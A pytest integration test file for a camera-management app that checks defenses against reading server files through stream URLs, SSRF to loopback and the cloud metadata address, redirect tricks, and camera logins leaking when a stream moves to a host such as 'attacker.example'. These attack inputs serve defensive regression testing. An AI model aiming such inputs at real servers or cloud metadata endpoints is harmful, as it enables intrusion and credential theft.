"""Attacks through a camera's stream: reading server files, reaching internal hosts, and
moving a camera so that its stored login goes to another host (issue 15, findings 1 and 2).

Each test performs the attack against the real app (SQLite and PostgreSQL
stores) with a non-admin API key that holds ``configure``, as the attacker
did, and checks that it fails: local media are read only from the directories
the administrator allows (``ARGUS_MEDIA_DIRS``, symlinks resolved), only by
video and image demuxers; refusals never tell whether a path exists; hosts are
checked against the allowed and denied networks after name resolution; and a
camera's login never follows its stream to another scheme, host or port.
Camera servers are real HTTP servers on loopback (``tests/servers/http_camera.py``).
"""

from __future__ import annotations

import asyncio
import base64
import contextlib
import json
import os
import shutil
import tempfile
import threading
import uuid
from collections.abc import AsyncIterator, Iterator
from dataclasses import dataclass
from http.server import ThreadingHTTPServer
from pathlib import Path
from typing import Any

import httpx
import pytest
import sqlalchemy as sa
from sqlalchemy.ext.asyncio import create_async_engine

from argus.adapters.bus.memory import MemoryEventBus
from argus.adapters.db.sql import SqlDatabase, async_url
from argus.adapters.pipelines import EdgePipelines, RestartPolicy, SourceOptions
from argus.adapters.pipelines.scene import DetectDefaults
from argus.adapters.pipelines_memory import MemoryPipelines
from argus.adapters.video.images import ImageDirectorySource
from argus.adapters.video.policy import REFUSED, SourcePolicy
from argus.api.testing import running
from argus.bootstrap.adapters import Adapters
from argus.bootstrap.app import build_app
from argus.bootstrap.container import build_container
from argus.bootstrap.edge import edge_pipelines
from argus.config import Settings
from argus.domain.backoff import BackoffPolicy
from argus.domain.cameras import Camera, Credentials, new_id
from argus.domain.errors import SourceOpenError, StorageError
from argus.ports.pipelines import PipelineSupervisor
from argus.services.cameras import stream_origin
from tests.auth_support import admin_token, bearer, settings_for
from tests.integration.conftest import Media
from tests.servers.http_camera import CameraHandler

pytestmark = [pytest.mark.integration, pytest.mark.anyio]

POSTGRES_URL = os.environ.get(
    "ARGUS_TEST_POSTGRES_URL", "postgresql://argus:argus@127.0.0.1:5432/argus_test"
)
SECRET = b"policy-test-secret-0123456789abc"
STORES = ("sqlite", "postgresql")
WAIT = 60.0
"""Seconds a test waits for a camera server to see requests; generous for a loaded machine."""

KEY_TEXT = (
    "-----BEGIN OPENSSH PRIVATE KEY-----\n"
    "b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW\n"
    "-----END OPENSSH PRIVATE KEY-----\n"
)
"""A key file as FFmpeg's ``tty`` demuxer would draw it, legibly, into a 640x400 frame."""

CAMERA_USER, CAMERA_PASSWORD = "cam-admin", "stored-camera-pa55"


# --- the app over a real store ----------------------------------------------------------------


@dataclass
class App:
    """The running app: an admin client and a client with a non-admin ``configure`` key."""

    admin: httpx.AsyncClient
    attacker: httpx.AsyncClient


async def _drop_schema(schema: str) -> None:
    engine = create_async_engine(async_url(POSTGRES_URL))
    try:
        async with engine.begin() as connection:
            await connection.execute(sa.text(f'DROP SCHEMA IF EXISTS "{schema}" CASCADE'))
    finally:
        await engine.dispose()


@contextlib.asynccontextmanager
async def _store(kind: str, directory: Path) -> AsyncIterator[SqlDatabase]:
    if kind == "sqlite":
        database = await SqlDatabase.open(f"sqlite:///{directory / 'argus.db'}", secret_key=SECRET)
        try:
            yield database
        finally:
            await database.close()
        return
    schema = f"t_{uuid.uuid4().hex[:12]}"
    try:
        database = await SqlDatabase.open(POSTGRES_URL, secret_key=SECRET, schema=schema)
    except StorageError as exc:
        pytest.fail(f"PostgreSQL is not reachable ({exc}); run scripts/services.sh")
    try:
        yield database
    finally:
        await database.close()
        await _drop_schema(schema)


@contextlib.asynccontextmanager
async def _app(
    kind: str,
    directory: Path,
    settings: Settings,
    pipelines: PipelineSupervisor | None = None,
) -> AsyncIterator[App]:
    """The app over a ``kind`` store, signed in as the admin and as a ``configure`` API key."""
    async with _store(kind, directory) as database:
        plane = Adapters(
            database=database,
            bus=MemoryEventBus(ack_wait=0.5),
            pipelines=pipelines if pipelines is not None else MemoryPipelines(),
        )

        async def opener(_: Settings) -> Adapters:
            return plane

        app = build_app(settings, open_adapters=opener)
        async with running(app) as asgi:
            transport = httpx.ASGITransport(app=asgi, raise_app_exceptions=False)
            async with (
                httpx.AsyncClient(transport=transport, base_url="http://argus") as admin,
                httpx.AsyncClient(transport=transport, base_url="http://argus") as attacker,
            ):
                admin.headers.update(bearer(await admin_token(admin)))
                body = {"name": "integrator", "permissions": ["view", "configure"]}
                made = await admin.post("/api/v1/api-keys", json=body)
                assert made.status_code == 201, made.text
                attacker.headers["X-API-Key"] = made.json()["key"]
                yield App(admin, attacker)


def _settings(directory: Path, **overrides: Any) -> Settings:
    """Test settings with the product's default source policy unless overridden."""
    defaults = Settings.model_fields
    values: dict[str, Any] = {
        "media_dirs": defaults["media_dirs"].default,
        "camera_deny_networks": defaults["camera_deny_networks"].default,
        **overrides,
    }
    return settings_for(directory, **values)


async def _probe(client: httpx.AsyncClient, stream_url: str) -> dict[str, Any]:
    answer = await client.post("/api/v1/cameras/probe", json={"stream_url": stream_url})
    assert answer.status_code == 200, answer.text
    result: dict[str, Any] = answer.json()
    return result


def _without(text: str, path: str) -> str:
    return text.replace(path, "<path>")


@pytest.fixture(params=STORES)
def store(request: pytest.FixtureRequest) -> str:
    kind: str = request.param
    return kind


@pytest.fixture
def layout(tmp_path: Path) -> tuple[Path, Path, Path]:
    """``(data, media, private)``: the data directory, an allowed media directory, and a
    private directory outside it holding a key file (``key.asc``)."""
    data, media, private = tmp_path / "data", tmp_path / "media", tmp_path / "private"
    for directory in (data, media, private):
        directory.mkdir()
    (private / "key.asc").write_text(KEY_TEXT)
    return data, media, private


# --- finding 1: server files ------------------------------------------------------------------


async def test_a_configure_key_cannot_read_a_key_file_and_learns_nothing_of_its_existence(
    store: str, layout: tuple[Path, Path, Path]
) -> None:
    data, media, private = layout
    secret, missing = str(private / "key.asc"), str(private / "nothing.asc")
    async with _app(store, data, _settings(data, media_dirs=str(media))) as app:
        read = await _probe(app.attacker, secret)
        absent = await _probe(app.attacker, missing)
        as_url = await _probe(app.attacker, f"file://{secret}")
        made = await app.attacker.post(
            "/api/v1/cameras", json={"name": "leak", "stream_url": secret}
        )
        made_missing = await app.attacker.post(
            "/api/v1/cameras", json={"name": "leak", "stream_url": missing}
        )
        cameras = (await app.admin.get("/api/v1/cameras")).json()
    for result in (read, absent, as_url):
        assert result["ok"] is False, result
        assert result["snapshot_jpeg_base64"] is None
        assert REFUSED in result["error"]
    assert _without(read["error"], secret) == _without(absent["error"], missing)
    assert made.status_code == made_missing.status_code == 422, made.text
    assert _without(made.text, secret) == _without(made_missing.text, missing)
    assert cameras["total"] == 0
    assert "PRIVATE KEY" not in read["error"]


NOBODY = 65534
"""The unprivileged account a forked child becomes, so that file permissions apply (CI is root)."""


def _refusals_as_nobody(policy: SourcePolicy, paths: list[Path]) -> list[str]:
    """``policy.check_path`` of each path in a child process running as ``nobody``.

    As root every file is readable, so the check runs where permissions hold:
    a forked child that dropped its privileges, reporting each refusal's text
    (or ``"allowed"``) through a pipe.
    """
    read_end, write_end = os.pipe()
    child = os.fork()
    if child == 0:  # pragma: no cover - runs in the child
        code = 1  # whatever happens, the child exits here and never returns into pytest
        try:
            os.close(read_end)
            if os.geteuid() == 0:
                os.setgroups([])
                os.setgid(NOBODY)
                os.setuid(NOBODY)
            found = []
            for path in paths:
                try:
                    policy.check_path(str(path))
                    found.append("allowed")
                except SourceOpenError as exc:
                    found.append(str(exc))
            os.write(write_end, json.dumps(found).encode())
            code = 0
        finally:
            os._exit(code)
    os.close(write_end)
    with os.fdopen(read_end, "rb") as pipe:
        data = pipe.read()
    _, status = os.waitpid(child, 0)
    assert os.waitstatus_to_exitcode(status) == 0, "the unprivileged child failed"
    answers: list[str] = json.loads(data)
    return answers


def test_an_unreadable_file_is_refused_like_a_missing_one() -> None:
    # A directory the unprivileged child can enter (pytest's tmp_path is private to root).
    media = Path(tempfile.mkdtemp(prefix="argus-media-", dir="/tmp"))
    try:
        media.chmod(0o755)
        clip = Media(media).video("locked.mp4", frames=5)
        readable = Media(media).video("open.mp4", frames=5)
        readable.chmod(0o644)
        clip.chmod(0)
        absent = media / "absent.mp4"
        policy = SourcePolicy(media_dirs=(media,))
        locked, missing, allowed = _refusals_as_nobody(policy, [clip, absent, readable])
    finally:
        shutil.rmtree(media)
    assert allowed == "allowed"  # the child could read what it may: the refusal is the mode's
    assert REFUSED in locked
    assert _without(locked, str(clip)) == _without(missing, str(absent))


async def test_a_pipe_in_a_media_directory_is_refused_like_a_missing_file(
    store: str, layout: tuple[Path, Path, Path]
) -> None:
    data, media, _ = layout
    pipe = media / "camera.mp4"
    os.mkfifo(pipe)  # reading it would block the probe's thread for good
    async with _app(store, data, _settings(data, media_dirs=str(media))) as app:
        special = await _probe(app.attacker, str(pipe))
        absent = await _probe(app.attacker, str(media / "absent.mp4"))
    assert special["ok"] is False
    assert _without(special["error"], str(pipe)) == _without(
        absent["error"], str(media / "absent.mp4")
    )


async def test_a_symlink_out_of_a_media_directory_is_refused(
    store: str, layout: tuple[Path, Path, Path]
) -> None:
    data, media, private = layout
    outside = Media(private).video("outside.mp4", frames=5)
    inside = Media(media).video("inside.mp4", frames=5)
    (media / "escape.mp4").symlink_to(outside)
    (media / "key.asc").symlink_to(private / "key.asc")
    (media / "private").symlink_to(private, target_is_directory=True)
    async with _app(store, data, _settings(data, media_dirs=str(media))) as app:
        allowed = await _probe(app.attacker, str(inside))
        escapes = [
            await _probe(app.attacker, str(media / name))
            for name in ("escape.mp4", "key.asc", "private/outside.mp4", "../private/key.asc")
        ]
    assert allowed["ok"] is True, allowed
    for result in escapes:
        assert result["ok"] is False, result
        assert REFUSED in result["error"]
        assert result["snapshot_jpeg_base64"] is None


@pytest.mark.parametrize("name", ["key.asc", "notes.nfo", "banner.ans"])
async def test_a_text_file_inside_a_media_directory_is_never_drawn(
    store: str, layout: tuple[Path, Path, Path], name: str
) -> None:
    data, media, _ = layout
    (media / name).write_text(KEY_TEXT)
    async with _app(store, data, _settings(data, media_dirs=str(media))) as app:
        result = await _probe(app.attacker, str(media / name))
    assert result["ok"] is False, result
    assert result["snapshot_jpeg_base64"] is None
    assert "not a video or image file" in result["error"]


async def test_the_demo_clip_is_readable_with_the_default_policy(
    store: str, layout: tuple[Path, Path, Path]
) -> None:
    data, _, _ = layout
    clip = build_container(Settings(data_dir=data)).demo_video()
    if not clip.is_file():
        pytest.skip(f"bikes.mp4 is missing ({clip})")
    async with _app(store, data, _settings(data)) as app:
        result = await _probe(app.attacker, str(clip))
        made = await app.attacker.post(
            "/api/v1/cameras", json={"name": "demo", "stream_url": str(clip)}
        )
        sibling = await _probe(app.attacker, str(clip.with_name("bigbuckbunny.mp4")))
    assert result["ok"] is True, result
    assert (result["width"], result["height"]) == (640, 272)
    assert made.status_code == 201, made.text
    assert sibling["ok"] is False  # only the clip, not its package's other files


def test_an_image_folder_skips_links_to_images_elsewhere(tmp_path: Path) -> None:
    folder, elsewhere = tmp_path / "frames", tmp_path / "elsewhere"
    folder.mkdir()
    elsewhere.mkdir()
    Media(folder).image(folder / "frame1.jpg", 1)
    Media(folder).image(folder / "frame2.jpg", 2)
    outside = Media(elsewhere).image(elsewhere / "secret.jpg", 3)
    (folder / "zz-secret.jpg").symlink_to(outside)
    listed = ImageDirectorySource(folder).list_images()
    assert [p.name for p in listed] == sorted(
        p.name for p in folder.iterdir() if not p.is_symlink()
    )


# --- finding 1: internal hosts ----------------------------------------------------------------


class _Recorder(ThreadingHTTPServer):
    """The test HTTP camera, remembering each request's path and ``Authorization`` header."""

    daemon_threads = True

    def __init__(self, host: str) -> None:
        super().__init__((host, 0), _RecordingHandler)
        self.seen: list[tuple[str, str | None]] = []
        self.lock = threading.Lock()

    @property
    def port(self) -> int:
        return int(self.server_address[1])

    def requests(self) -> list[tuple[str, str | None]]:
        with self.lock:
            return list(self.seen)


class _RecordingHandler(CameraHandler):
    def do_GET(self) -> None:  # noqa: N802 - the name http.server calls
        server = self.server
        assert isinstance(server, _Recorder)
        with server.lock:
            server.seen.append((self.path, self.headers.get("Authorization")))
        super().do_GET()


@contextlib.contextmanager
def _camera_server(host: str = "127.0.0.1") -> Iterator[_Recorder]:
    server = _Recorder(host)
    thread = threading.Thread(target=server.serve_forever, name=f"camera-{host}", daemon=True)
    thread.start()
    try:
        yield server
    finally:
        server.shutdown()
        server.server_close()
        thread.join(WAIT)


async def _until(check: Any, what: str) -> None:
    loop = asyncio.get_running_loop()
    deadline = loop.time() + WAIT
    while not check():
        if loop.time() > deadline:
            raise AssertionError(f"timed out waiting for {what}")
        await asyncio.sleep(0.05)


async def test_loopback_and_metadata_hosts_are_refused_by_default(
    store: str, layout: tuple[Path, Path, Path]
) -> None:
    data, _, _ = layout
    with _camera_server() as camera:
        port = camera.port
        targets = [
            f"http://127.0.0.1:{port}/snapshot",
            f"http://localhost:{port}/snapshot",  # a name is resolved first
            f"http://[::ffff:127.0.0.1]:{port}/snapshot",
            f"rtsp://127.0.0.1:{port}/stream",
            "http://169.254.169.254/latest/meta-data/iam/",
        ]
        async with _app(store, data, _settings(data)) as app:
            results = [await _probe(app.attacker, url) for url in targets]
            made = await app.attacker.post(
                "/api/v1/cameras", json={"name": "ssrf", "stream_url": targets[0]}
            )
        assert camera.requests() == []
    for url, result in zip(targets, results, strict=True):
        assert result["ok"] is False, url
        assert "in a network cameras may not use" in result["error"], result
    assert made.status_code == 422, made.text


async def test_an_admin_may_allow_loopback_cameras(
    store: str, layout: tuple[Path, Path, Path]
) -> None:
    data, _, _ = layout
    with _camera_server() as camera:
        async with _app(store, data, _settings(data, camera_deny_networks="")) as app:
            result = await _probe(app.attacker, f"http://127.0.0.1:{camera.port}/snapshot")
        assert camera.requests()
    assert result["ok"] is True, result


async def test_an_allow_list_confines_cameras_to_its_networks(
    store: str, layout: tuple[Path, Path, Path]
) -> None:
    data, _, _ = layout
    settings = _settings(data, camera_allow_networks="10.0.0.0/8", camera_deny_networks="")
    async with _app(store, data, settings) as app:
        inside = await app.attacker.post(
            "/api/v1/cameras", json={"name": "lan", "stream_url": "rtsp://10.1.2.3/live"}
        )
        outside = await app.attacker.post(
            "/api/v1/cameras", json={"name": "wan", "stream_url": "rtsp://192.0.2.7/live"}
        )
    assert inside.status_code == 201, inside.text
    assert outside.status_code == 422, outside.text


class _Redirector(ThreadingHTTPServer):
    """An allowed camera host whose every answer redirects to ``target``."""

    daemon_threads = True

    def __init__(self, host: str, target: str) -> None:
        super().__init__((host, 0), _RedirectHandler)
        self.target = target

    @property
    def port(self) -> int:
        return int(self.server_address[1])


class _RedirectHandler(CameraHandler):
    def do_GET(self) -> None:  # noqa: N802 - the name http.server calls
        server = self.server
        assert isinstance(server, _Redirector)
        self.send_response(302)
        self.send_header("Location", server.target)
        self.send_header("Content-Length", "0")
        self.end_headers()


@contextlib.contextmanager
def _redirecting(host: str, target: str) -> Iterator[_Redirector]:
    server = _Redirector(host, target)
    thread = threading.Thread(target=server.serve_forever, name=f"redirect-{host}", daemon=True)
    thread.start()
    try:
        yield server
    finally:
        server.shutdown()
        server.server_close()
        thread.join(WAIT)


@pytest.mark.parametrize("path", ["/snapshot", "/stream.mjpeg"], ids=["snapshot", "mjpeg"])
async def test_a_camera_cannot_redirect_the_server_to_a_denied_host(
    store: str, layout: tuple[Path, Path, Path], path: str
) -> None:
    """An allowed host answers 302 to loopback: the probe and the pipeline never follow it."""
    data, _, _ = layout
    # 127.0.0.2 stands for an allowed camera on the LAN, 127.0.0.1 for the server's own services.
    settings = _settings(data, camera_deny_networks="127.0.0.1/32")
    with (
        _camera_server("127.0.0.1") as internal,
        _redirecting("127.0.0.2", f"http://127.0.0.1:{internal.port}{path}") as camera,
    ):
        url = f"http://127.0.0.2:{camera.port}{path}"
        async with _app(store, data, settings) as app:
            result = await _probe(app.attacker, url)
        assert result["ok"] is False, result
        assert "in a network cameras may not use" in result["error"], result
        stored = Camera(id=new_id(), name="lan", stream_url=url)
        async with _pipelines(settings) as edge:
            await edge.apply(stored, [], [])

            def refused() -> bool:
                status = edge.status(stored.id)
                return status is not None and "may not use" in (status.last_error or "")

            await _until(refused, "the pipeline's refusal of the redirect")
        assert internal.requests() == []


# --- finding 2: stored credentials and a new host -----------------------------------------------

SOURCES = SourceOptions(
    realtime_files=False,
    loop_files=True,
    open_timeout=10.0,
    read_timeout=5.0,
    backoff=BackoffPolicy(initial=0.1, max_delay=0.5),
)
FAST = RestartPolicy(backoff=BackoffPolicy(initial=0.1, max_delay=0.5), stall_s=30.0)


@contextlib.asynccontextmanager
async def _pipelines(settings: Settings) -> AsyncIterator[EdgePipelines]:
    """The real embedded edge worker (it opens cameras' streams with their logins)."""
    bus = MemoryEventBus()
    edge = edge_pipelines(
        settings,
        bus,
        sources=SOURCES,
        defaults=DetectDefaults(input_size=320, confidence=0.3),
        restart=FAST,
    )
    try:
        yield edge
    finally:
        await edge.close()
        await bus.close()


def _basic(user: str, password: str) -> str:
    return "Basic " + base64.b64encode(f"{user}:{password}".encode()).decode("ascii")


async def test_moving_a_camera_to_another_host_never_sends_it_the_stored_login(
    store: str, layout: tuple[Path, Path, Path]
) -> None:
    data, _, _ = layout
    settings = _settings(data, camera_deny_networks="")
    stored = _basic(CAMERA_USER, CAMERA_PASSWORD)
    with _camera_server("127.0.0.1") as home, _camera_server("127.0.0.2") as attacker_host:
        async with _pipelines(settings) as edge, _app(store, data, settings, edge) as app:
            body = {
                "name": "gate",
                "stream_url": f"http://127.0.0.1:{home.port}/snapshot",
                "credentials": {"username": CAMERA_USER, "password": CAMERA_PASSWORD},
                "detect_fps": 5,
            }
            made = await app.attacker.post("/api/v1/cameras", json=body)
            assert made.status_code == 201, made.text
            camera = made.json()["id"]
            await _until(lambda: ("/snapshot", stored) in home.requests(), "the login at home")

            # Another path on the same host, scheme and port keeps the login.
            same = await app.attacker.patch(
                f"/api/v1/cameras/{camera}",
                json={"stream_url": f"http://127.0.0.1:{home.port}/snapshot?channel=2"},
            )
            assert same.json()["has_credentials"] is True, same.text
            await _until(
                lambda: ("/snapshot?channel=2", stored) in home.requests(), "the login kept"
            )

            # The attack: point the camera at a host of one's own.
            moved = await app.attacker.patch(
                f"/api/v1/cameras/{camera}",
                json={"stream_url": f"http://127.0.0.2:{attacker_host.port}/snapshot"},
            )
            assert moved.status_code == 200, moved.text
            await _until(lambda: len(attacker_host.requests()) >= 3, "the new host polled")
            records = await app.admin.get(
                "/api/v1/audit", params={"action": "camera.credentials.drop"}
            )
    leaked = [auth for _, auth in attacker_host.requests() if auth is not None]
    assert leaked == [], "the stored login went to the new host"
    assert moved.json()["has_credentials"] is False
    assert records.status_code == 200, records.text
    [record] = records.json()["items"]
    assert record["target"] == f"camera:{camera}"
    assert record["details"]["old_origin"] == f"http://127.0.0.1:{home.port}"
    assert CAMERA_PASSWORD not in records.text


async def test_a_login_sent_with_the_move_goes_to_the_new_host(
    store: str, layout: tuple[Path, Path, Path]
) -> None:
    data, _, _ = layout
    settings = _settings(data, camera_deny_networks="")
    with _camera_server("127.0.0.1") as old, _camera_server("127.0.0.1") as new:
        async with _pipelines(settings) as edge, _app(store, data, settings, edge) as app:
            body = {
                "name": "gate",
                "stream_url": f"http://127.0.0.1:{old.port}/snapshot",
                "credentials": {"username": CAMERA_USER, "password": CAMERA_PASSWORD},
            }
            camera = (await app.attacker.post("/api/v1/cameras", json=body)).json()["id"]
            change = {
                "stream_url": f"http://127.0.0.1:{new.port}/snapshot",
                "credentials": {"username": "new-user", "password": "new-pa55"},
            }
            moved = await app.attacker.patch(f"/api/v1/cameras/{camera}", json=change)
            assert moved.json()["has_credentials"] is True, moved.text
            login = _basic("new-user", "new-pa55")
            await _until(lambda: ("/snapshot", login) in new.requests(), "the new login")
            dropped = await app.admin.get(
                "/api/v1/audit", params={"action": "camera.credentials.drop"}
            )
    assert dropped.json()["total"] == 0
    assert _basic(CAMERA_USER, CAMERA_PASSWORD) not in {auth for _, auth in new.requests()}


@pytest.mark.parametrize(
    ("before", "after", "same"),
    [
        ("rtsp://cam/1", "rtsp://cam:554/2", True),
        ("rtsp://CAM/1", "rtsp://cam/1?x", True),
        ("http://cam/snapshot", "https://cam/snapshot", False),
        ("http://cam/a", "http://cam:8080/a", False),
        ("http://cam/a", "http://cam.evil/a", False),
        ("rtsp://10.0.0.5/1", "/srv/media/clip.mp4", False),
    ],
    ids=["path-and-default-port", "case-and-query", "scheme", "port", "host", "to-a-file"],
)
def test_a_login_belongs_to_a_scheme_host_and_port(before: str, after: str, same: bool) -> None:
    assert (stream_origin(before) == stream_origin(after)) is same


async def test_a_stored_camera_outside_the_policy_is_not_opened_by_its_pipeline(
    layout: tuple[Path, Path, Path],
) -> None:
    """A camera saved before the policy (or by another server) is checked when it starts."""
    data, media, private = layout
    settings = _settings(data, media_dirs=str(media))
    camera = Camera(
        id=new_id(),
        name="old",
        stream_url=str(private / "key.asc"),
        credentials=Credentials("u", "p"),
    )
    async with _pipelines(settings) as edge:
        await edge.apply(camera, [], [])

        def refused() -> bool:
            status = edge.status(camera.id)
            return status is not None and REFUSED in (status.last_error or "")

        await _until(refused, "the pipeline's refusal")
        assert edge.snapshot(camera.id) is None


# --- sub-streams: the detect stream is held to the same rules as the main one --------------


async def test_a_detect_stream_on_another_host_is_refused_so_the_login_goes_nowhere_else(
    store: str, layout: tuple[Path, Path, Path]
) -> None:
    data, _, _ = layout
    body = {
        "name": "gate",
        "stream_url": "rtsp://10.20.0.5:554/main",
        "credentials": {"username": CAMERA_USER, "password": CAMERA_PASSWORD},
        "detect_stream_url": "rtsp://10.20.0.6:554/sub",
    }
    async with _app(store, data, _settings(data)) as app:
        elsewhere = await app.attacker.post("/api/v1/cameras", json=body)
        made = await app.attacker.post(
            "/api/v1/cameras", json=body | {"detect_stream_url": "rtsp://10.20.0.5/sub"}
        )
        assert made.status_code == 201, made.text
        camera = made.json()
        moved_sub = await app.attacker.patch(
            f"/api/v1/cameras/{camera['id']}",
            json={"detect_stream_url": "rtsp://attacker.example:554/sub"},
        )
        moved_main = await app.attacker.patch(
            f"/api/v1/cameras/{camera['id']}", json={"stream_url": "rtsp://10.20.0.7:554/main"}
        )
        both = await app.attacker.patch(
            f"/api/v1/cameras/{camera['id']}",
            json={
                "stream_url": "rtsp://10.20.0.7:554/main",
                "detect_stream_url": "rtsp://10.20.0.7:554/sub",
            },
        )
    assert elsewhere.status_code == 422, elsewhere.text
    assert "same scheme, host and port" in elsewhere.text
    # the default RTSP port is the same port
    assert camera["detect_stream_url"] == "rtsp://10.20.0.5/sub"
    assert camera["record"] is True
    assert moved_sub.status_code == 422, moved_sub.text
    assert moved_main.status_code == 422, moved_main.text  # the sub-stream would stay behind
    assert both.status_code == 200, both.text
    assert both.json()["has_credentials"] is False  # moved host: the login is dropped
    assert both.json()["detect_stream_url"] == "rtsp://10.20.0.7:554/sub"


async def test_a_detect_stream_file_outside_the_media_directories_is_refused(
    store: str, layout: tuple[Path, Path, Path]
) -> None:
    data, media, private = layout
    inside = Media(media).video("inside.mp4", frames=5)
    small = Media(media).video("inside-small.mp4", frames=5)
    outside = Media(private).video("outside.mp4", frames=5)
    async with _app(store, data, _settings(data, media_dirs=str(media))) as app:
        escaped = await app.attacker.post(
            "/api/v1/cameras",
            json={"name": "f", "stream_url": str(inside), "detect_stream_url": str(outside)},
        )
        made = await app.attacker.post(
            "/api/v1/cameras",
            json={"name": "f", "stream_url": str(inside), "detect_stream_url": str(small)},
        )
        assert made.status_code == 201, made.text
        patched = await app.attacker.patch(
            f"/api/v1/cameras/{made.json()['id']}",
            json={"detect_stream_url": str(private / "key.asc"), "record": False},
        )
        kept = await app.attacker.get(f"/api/v1/cameras/{made.json()['id']}")
    assert escaped.status_code == 422, escaped.text
    assert "detect_stream_url" in escaped.text
    assert REFUSED in escaped.text
    assert patched.status_code == 422, patched.text
    assert kept.json()["detect_stream_url"] == str(small)
    assert kept.json()["record"] is True
